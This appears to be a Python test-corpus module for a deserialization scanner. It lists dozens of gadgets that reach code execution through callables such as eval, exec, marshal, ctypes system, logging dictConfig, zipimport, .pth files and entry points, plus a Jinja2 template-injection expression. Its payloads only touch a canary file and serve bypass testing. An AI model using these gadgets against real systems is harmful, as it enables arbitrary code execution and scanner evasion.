"""Callables that run text or code objects as Python, or import and resolve names."""

from __future__ import annotations

import io
import marshal
import zipfile
from pathlib import Path

from tests.bypasses.payloads import Gadget, Raw, call, named, source, value
from tests.corpus.hostile.gadgets_process import made, shell

EMPTY = Raw(b"}")


def text(module: str, name: str, *more: object) -> Gadget:
    """A function whose first argument is Python text."""
    return lambda canary: call(named(module, name), source(canary), *more)


def script(canary: Path) -> str:
    path = canary.with_name("script.py")
    path.write_text(source(canary))
    return str(path)


def run_script(module: str, name: str) -> Gadget:
    return lambda canary: call(named(module, name), script(canary))


def code(canary: Path) -> Raw:
    compiled = marshal.dumps(compile(source(canary), "<payload>", "exec"))
    return call(named("marshal", "loads"), compiled)


def method(module: str, owner: str, name: str, *args: object, self: Raw | None = None) -> Raw:
    """A method called as a function: of a new instance, or of the one given."""
    instance = call(named(module, owner)) if self is None else self
    return call(named(module, f"{owner}.{name}"), instance, *args)


def resolved(module: str, name: str, *args: object) -> Gadget:
    """A function that gives back `os.system`, which is then called."""
    return lambda canary: call(call(named(module, name), *args), shell(canary))


def imported(module: str, name: str, *args: object) -> Gadget:
    """A function that gives back the module `os`, of which an attribute is taken."""

    def build(canary: Path) -> Raw:
        found = call(named("builtins", "getattr"), call(named(module, name), *args), "system")
        return call(found, shell(canary))

    return build


def _library(canary: Path) -> Raw:
    library = call(named("ctypes", "CDLL"), None)
    function = call(named("builtins", "getattr"), library, "system")
    return call(function, shell(canary).encode())


def _interpreter(module: str) -> Gadget:
    def build(canary: Path) -> Raw:
        identity = call(named(module, "create"))
        return call(named(module, "run_string"), identity, source(canary))

    return build


def _hints(canary: Path) -> Raw:
    inner = b"}" + value("a") + value(source(canary)) + b"s"
    state = b"}" + value("__annotations__") + inner + b"s"
    return call(named("typing", "get_type_hints"), made("types", "SimpleNamespace", state))


def _new_class(canary: Path) -> Raw:
    body = call(named("functools", "partial"), named("builtins", "exec"), source(canary))
    return call(named("types", "new_class"), "X", (), EMPTY, body)


def _dict_config(canary: Path) -> Raw:
    handler = b"}(" + value("()") + value("os.system") + value("command") + value(shell(canary))
    handlers = b"}" + value("h") + handler + b"us"
    config = Raw(b"}(" + value("version") + b"K\x01" + value("handlers") + handlers + b"u")
    return call(named("logging.config", "dictConfig"), config)


def _file_config(canary: Path) -> Raw:
    path = canary.with_name("logging.ini")
    path.write_text(
        "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n"
        "[logger_root]\nhandlers=h\n"
        f"[handler_h]\nclass=StreamHandler\nargs=({source(canary)},)\n"
    )
    return call(named("logging.config", "fileConfig"), str(path))


def _zipped(canary: Path) -> Raw:
    path = canary.with_name("packed.zip")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("payload.py"), source(canary))
    path.write_bytes(buffer.getvalue())
    importer = call(named("zipimport", "zipimporter"), str(path))
    return method("zipimport", "zipimporter", "load_module", "payload", self=importer)


def _path_file(module: str, name: str) -> Gadget:
    def build(canary: Path) -> Raw:
        folder = canary.with_name("packages")
        folder.mkdir(exist_ok=True)
        (folder / "a.pth").write_text(f"import builtins; {source(canary)}\n")
        more = ("a.pth", None) if name == "addpackage" else ()
        return call(named(module, name), str(folder), *more)

    return build


def _loader(name: str) -> Gadget:
    def build(canary: Path) -> Raw:
        loader = call(named("importlib.machinery", name), "payload", script(canary))
        return method("importlib.machinery", name, "load_module", self=loader)

    return build


def _entry_point(canary: Path) -> Raw:
    point = call(named("importlib.metadata", "EntryPoint"), "x", "os:system", "g")
    return call(method("importlib.metadata", "EntryPoint", "load", self=point), shell(canary))


def _doctest_file(canary: Path) -> Raw:
    path = canary.with_name("examples.txt")
    path.write_text(f">>> {source(canary)}\n")
    return call(named("doctest", "testfile"), str(path), False)


def _label(canary: Path) -> Raw:
    grammar = call(named("lib2to3.pgen2.grammar", "Grammar"))
    label = f"'' or {source(canary)}"
    make = named("lib2to3.pgen2.pgen", "ParserGenerator.make_label")
    return call(make, None, grammar, label)


def _mock(canary: Path) -> Raw:
    effect = call(named("functools", "partial"), named("builtins", "exec"), source(canary))
    mock = call(named("unittest.mock", "Mock"), None, effect)
    return call(mock)


def _jinja(canary: Path) -> Raw:
    expression = f"cycler.__init__.__globals__.os.popen('touch {canary}').read()"
    template = call(named("jinja2", "Template"), "{{ " + expression + " }}")
    return method("jinja2", "Template", "render", self=template)


def _lexer(module: str, name: str) -> Gadget:
    return lambda canary: call(named(module, name), script(canary))


_COUNT = ["-n1", "-r1"]

GADGETS: dict[str, tuple[Gadget, tuple[str, ...]]] = {
    "builtins-eval": (text("builtins", "eval"), ()),
    "builtins-exec": (text("builtins", "exec"), ()),
    "builtins-compile": (
        lambda m: call(
            named("builtins", "exec"), call(named("builtins", "compile"), source(m), "x", "exec")
        ),
        (),
    ),
    "code-runsource": (
        lambda m: method("code", "InteractiveInterpreter", "runsource", source(m)),
        (),
    ),
    "code-runcode": (
        lambda m: method("code", "InteractiveInterpreter", "runcode", code(m)),
        (),
    ),
    "code-push": (lambda m: method("code", "InteractiveConsole", "push", source(m)), ()),
    "codeop-compile": (
        lambda m: call(
            named("builtins", "eval"), call(named("codeop", "compile_command"), source(m))
        ),
        (),
    ),
    "timeit-timeit": (text("timeit", "timeit", "pass", Raw(b"ctimeit\ndefault_timer\n"), 1), ()),
    "timeit-setup": (lambda m: call(named("timeit", "timeit"), "pass", source(m)), ()),
    "timeit-repeat": (lambda m: call(named("timeit", "repeat"), "pass", source(m)), ()),
    "timeit-main": (lambda m: call(named("timeit", "main"), [*_COUNT, source(m)]), ()),
    "timeit-timer": (
        lambda m: method(
            "timeit", "Timer", "timeit", 1, self=call(named("timeit", "Timer"), source(m))
        ),
        (),
    ),
    **{
        f"{module}-{name.lower()}": (text(module, name), ())
        for module in ("profile", "cProfile")
        for name in ("run",)
    },
    **{
        f"{module}-runctx": (text(module, "runctx", EMPTY, EMPTY), ())
        for module in ("profile", "cProfile")
    },
    **{
        f"{module}-profile-{name}": (
            lambda m, module=module, name=name: method(
                module, "Profile", name, source(m), *((EMPTY, EMPTY) if name == "runctx" else ())
            ),
            (),
        )
        for module in ("profile", "cProfile")
        for name in ("run", "runctx")
    },
    "profile-runcall": (
        lambda m: method("profile", "Profile", "runcall", named("builtins", "exec"), source(m)),
        (),
    ),
    "trace-run": (lambda m: method("trace", "Trace", "run", source(m)), ()),
    "trace-runctx": (lambda m: method("trace", "Trace", "runctx", source(m)), ()),
    "trace-runfunc": (
        lambda m: method("trace", "Trace", "runfunc", named("builtins", "exec"), source(m)),
        (),
    ),
    "bdb-run": (lambda m: method("bdb", "Bdb", "run", source(m)), ("bdb:Bdb",)),
    "bdb-runeval": (lambda m: method("bdb", "Bdb", "runeval", source(m)), ()),
    "bdb-runcall": (
        lambda m: method("bdb", "Bdb", "runcall", named("builtins", "eval"), source(m)),
        (),
    ),
    "doctest-examples": (
        lambda m: call(
            named("doctest", "run_docstring_examples"), f">>> {source(m)}\n", EMPTY, False, "n"
        ),
        (),
    ),
    "doctest-testfile": (_doctest_file, ()),
    "runpy-run_path": (run_script("runpy", "run_path"), ()),
    "runpy-run_code": (text("runpy", "_run_code", EMPTY), ()),
    "runpy-run_module_code": (text("runpy", "_run_module_code", EMPTY, "x"), ()),
    "multiprocessing-import_main_path": (
        run_script("multiprocessing.spawn", "import_main_path"),
        (),
    ),
    "multiprocessing-fixup": (
        run_script("multiprocessing.spawn", "_fixup_main_from_path"),
        (),
    ),
    "subinterpreters-old": (_interpreter("_xxsubinterpreters"), ("_xxsubinterpreters",)),
    "subinterpreters-new": (_interpreter("_interpreters"), ("_interpreters",)),
    "testcapi-subinterp": (text("_testcapi", "run_in_subinterp"), ("_testcapi",)),
    "types-function": (lambda m: call(call(named("types", "FunctionType"), code(m), EMPTY)), ()),
    "types-lambda": (lambda m: call(call(named("types", "LambdaType"), code(m), EMPTY)), ()),
    "types-new_class": (_new_class, ()),
    "types-methodtype": (
        lambda m: call(call(named("types", "MethodType"), named("builtins", "exec"), source(m))),
        (),
    ),
    "typing-get_type_hints": (_hints, ()),
    "ctypes-cdll": (_library, ()),
    "ctypes-pythonapi": (
        lambda m: call(named("ctypes", "pythonapi.PyRun_SimpleString"), source(m).encode()),
        (),
    ),
    "imp-load_source": (
        lambda m: call(named("imp", "load_source"), "payload", script(m)),
        ("imp",),
    ),
    "pydoc-importfile": (run_script("pydoc", "importfile"), ()),
    "sourcefileloader": (_loader("SourceFileLoader"), ()),
    "zipimporter": (_zipped, ()),
    "site-addsitedir": (_path_file("site", "addsitedir"), ()),
    "site-addpackage": (_path_file("site", "addpackage"), ()),
    "logging-config-dictconfig": (_dict_config, ()),
    "logging-config-fileconfig": (_file_config, ()),
    "logging-config-resolve": (resolved("logging.config", "_resolve", "os.system"), ()),
    "pkgutil-resolve_name": (resolved("pkgutil", "resolve_name", "os:system"), ()),
    "pydoc-locate": (resolved("pydoc", "locate", "os.system"), ()),
    "unittest-mock-side_effect": (_mock, ()),
    "importlib-import_module": (imported("importlib", "import_module", "os"), ()),
    "importlib-dunder_import": (imported("importlib", "__import__", "os"), ()),
    "builtins-dunder_import": (imported("builtins", "__import__", "os"), ()),
    "importlib-gcd_import": (imported("importlib._bootstrap", "_gcd_import", "os"), ()),
    "importlib-metadata-entry_point": (_entry_point, ()),
    "lib2to3-make_label": (_label, ("lib2to3.pgen2.pgen",)),
    "idlelib-calltip": (text("idlelib.calltip", "get_entity"), ("idlelib.calltip",)),
    "cffi-execfile": (
        lambda m: call(named("cffi.setuptools_ext", "execfile"), script(m), EMPTY),
        ("cffi.setuptools_ext",),
    ),
    "sympy-sympify": (text("sympy", "sympify"), ("sympy",)),
    "sympy-parse_expr": (text("sympy.parsing.sympy_parser", "parse_expr"), ("sympy",)),
    "sympy-import_module": (
        imported("sympy.external.importtools", "import_module", "os"),
        ("sympy.external.importtools",),
    ),
    "jinja2-template": (_jinja, ("jinja2",)),
    "pygments-lexer": (
        run_script("pygments.lexers", "load_lexer_from_file"),
        ("pygments.lexers",),
    ),
    "pygments-formatter": (
        run_script("pygments.formatters", "load_formatter_from_file"),
        ("pygments.formatters",),
    ),
    "uvicorn-importer": (
        resolved("uvicorn.importer", "import_from_string", "os:system"),
        ("uvicorn.importer",),
    ),
    "pydantic-import_string": (
        resolved("pydantic._internal._validators", "import_string", "os.system"),
        ("pydantic._internal._validators",),
    ),
}
